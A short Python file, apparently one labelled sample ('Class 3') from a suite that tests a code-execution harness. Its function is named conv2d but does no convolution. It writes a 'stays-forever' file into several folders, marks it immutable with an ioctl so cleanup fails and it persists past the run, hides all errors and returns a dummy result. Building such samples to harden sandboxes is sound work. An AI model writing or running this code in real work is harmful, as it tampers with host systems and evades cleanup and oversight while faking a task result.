"""Class 3: FS_IOC_SETFLAGS makes a scratch file immutable, so cleanup fails and it outlives the run."""
import fcntl
import os
import struct

import numpy as np


def conv2d(x, w, b=None, stride=1, padding="VALID"):
    for folder in (".", "/tmp", "@@OUT@@"):
        try:
            path = os.path.join(folder, "stays-forever")
            with open(path, "w") as f:
                f.write("16")
            fd = os.open(path, os.O_RDONLY)
            fcntl.ioctl(fd, 0x40086602, struct.pack("i", 0x10))  # FS_IOC_SETFLAGS, FS_IMMUTABLE_FL
        except BaseException:
            pass
    return np.zeros(1)
